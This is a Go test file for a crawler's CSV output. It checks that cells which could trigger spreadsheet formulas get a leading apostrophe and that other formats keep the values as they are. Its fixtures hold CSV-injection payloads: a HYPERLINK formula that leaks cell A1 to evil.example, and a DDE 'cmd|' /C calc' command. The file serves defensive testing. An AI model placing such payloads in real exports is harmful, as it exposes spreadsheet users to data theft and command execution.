package output_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/healthcrawl/healthcrawl/article"
	"github.com/healthcrawl/healthcrawl/output"
)

// formulaLeads are the first characters that make a spreadsheet run a cell (OWASP).
var formulaLeads = []string{"=", "+", "-", "@", "\t", "\r"}

// formulaRecords has one record per formula lead whose title, text and first author
// start with it, and one harmless record.
func formulaRecords() []*article.Article {
	var out []*article.Article
	for i, lead := range append(slices.Clone(formulaLeads), "") {
		a := &article.Article{
			SchemaVersion: article.SchemaVersion,
			URL:           fmt.Sprintf("https://health.example/a/%d", i),
			Site:          "health-example",
			PageType:      article.PageArticle,
			Title:         lead + `HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
			Text:          lead + "cmd|' /C calc'!A0 then the article text",
			Authors:       []string{lead + "Dr. Ann Lee", "Bo Park"},
			Description:   "'already quoted",
			WordCount:     7,
		}
		out = append(out, a)
	}
	return out
}

// csvCells reads the csv at r: the value of each column by record url.
func csvCells(t *testing.T, r io.Reader) map[string]map[string]string {
	t.Helper()
	rows, err := csv.NewReader(r).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) == 0 {
		t.Fatal("csv has no header")
	}
	out := map[string]map[string]string{}
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, c := range rows[0] {
			m[c] = row[i]
		}
		out[m["url"]] = m
	}
	return out
}

// checkCSVCells asserts that the csv holds every formula record, its title, text
// and authors neutralised with a leading "'" (or raw when raw), harmless cells
// unchanged.
func checkCSVCells(t *testing.T, cells map[string]map[string]string, raw bool) {
	t.Helper()
	recs := formulaRecords()
	if len(cells) != len(recs) {
		t.Fatalf("csv holds %d rows, want %d", len(cells), len(recs))
	}
	for _, a := range recs {
		row, ok := cells[a.URL]
		if !ok {
			t.Fatalf("no row for %s", a.URL)
		}
		harmless := !strings.ContainsAny(a.Title[:1], "=+-@\t\r")
		for col, v := range map[string]string{"title": a.Title, "text": a.Text, "authors": strings.Join(a.Authors, output.CSVListSep)} {
			want := v
			if !raw && !harmless {
				want = "'" + v
			}
			if row[col] != want {
				t.Errorf("%s %s = %q, want %q", a.URL, col, row[col], want)
			}
		}
		for col, want := range map[string]string{"description": "'already quoted", "site": "health-example", "word_count": "7", "url": a.URL} {
			if row[col] != want {
				t.Errorf("%s %s = %q, want %q (unchanged)", a.URL, col, row[col], want)
			}
		}
	}
}

// A cell a spreadsheet would run (starting with =, +, -, @, tab, CR) is written
// with a leading "'" by every way a csv output is opened: a file, rotated parts, a
// stream; Spec.CSVRaw writes the values as they are.
func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, raw := range []bool{false, true} {
		t.Run(fmt.Sprintf("raw=%v/file", raw), func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "out.csv")
			s, err := output.OpenSpec(context.Background(), output.Spec{Path: path, CSVRaw: raw})
			if err != nil {
				t.Fatal(err)
			}
			writeAll(t, s, formulaRecords())
			f, err := os.Open(path)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			checkCSVCells(t, csvCells(t, f), raw)
		})
		t.Run(fmt.Sprintf("raw=%v/rotated", raw), func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "out.csv")
			s, err := output.OpenSpec(context.Background(), output.Spec{Path: path, CSVRaw: raw, Rotate: output.Rotate{MaxRecords: 4}})
			if err != nil {
				t.Fatal(err)
			}
			writeAll(t, s, formulaRecords())
			all := map[string]map[string]string{}
			for n := 1; n <= 2; n++ {
				b, err := os.ReadFile(output.NumberedPath(path, n))
				if err != nil {
					t.Fatal(err)
				}
				for k, v := range csvCells(t, bytes.NewReader(b)) {
					all[k] = v
				}
			}
			checkCSVCells(t, all, raw)
		})
		t.Run(fmt.Sprintf("raw=%v/stream", raw), func(t *testing.T) {
			var buf bytes.Buffer
			s, err := output.NewSpec(output.Spec{Format: "csv", CSVRaw: raw}, &buf)
			if err != nil {
				t.Fatal(err)
			}
			writeAll(t, s, formulaRecords())
			checkCSVCells(t, csvCells(t, &buf), raw)
		})
	}
}

// A new run keeping the rows of a csv written raw (by an earlier release, or with
// csv_raw) neutralises them too: the final file is safe as a whole.
func TestCSVNeutralisesKeptRows(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.csv")
	recs := formulaRecords()
	s, err := output.OpenSpec(context.Background(), output.Spec{Path: path, CSVRaw: true})
	if err != nil {
		t.Fatal(err)
	}
	writeAll(t, s, recs[:3])
	s, err = output.OpenSpec(context.Background(), output.Spec{Path: path})
	if err != nil {
		t.Fatal(err)
	}
	writeAll(t, s, recs[3:])
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	checkCSVCells(t, csvCells(t, f), false)
}

// The other formats carry the values as they are: neutralising is for spreadsheets.
func TestFormulaValuesRawInOtherFormats(t *testing.T) {
	want := formulaRecords()
	for _, name := range []string{"out.jsonl", "out.jsonl.gz", "out.json", "out.parquet", "out.db", "tree"} {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), name)
			format := ""
			if name == "tree" {
				format = "files"
			}
			s, err := output.OpenSpec(context.Background(), output.Spec{Path: path, Format: format})
			if err != nil {
				t.Fatal(err)
			}
			writeAll(t, s, want)
			got := readAll(t, format, path)
			if len(got) != len(want) {
				t.Fatalf("%d records read, want %d", len(got), len(want))
			}
			byURL := map[string]*article.Article{}
			for _, a := range got {
				byURL[a.URL] = a
			}
			for _, w := range want {
				g := byURL[w.URL]
				if g == nil {
					t.Fatalf("no record for %s", w.URL)
				}
				if g.Title != w.Title || g.Text != w.Text || g.Authors[0] != w.Authors[0] {
					t.Errorf("%s: title %q text %q author %q, want %q %q %q", w.URL, g.Title, g.Text, g.Authors[0], w.Title, w.Text, w.Authors[0])
				}
			}
		})
	}
}

func TestCSVSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"=1+1":         "'=1+1",
		"+1":           "'+1",
		"-1":           "'-1",
		"@SUM(A1)":     "'@SUM(A1)",
		"\t=1":         "'\t=1",
		"\r=1":         "'\r=1",
		"'=1":          "'=1",
		"Back pain":    "Back pain",
		" =1":          " =1",
		"a=1":          "a=1",
		"12":           "12",
		"ünïcödé = ok": "ünïcödé = ok",
	} {
		if got := output.CSVSafeCell(in); got != want {
			t.Errorf("CSVSafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}
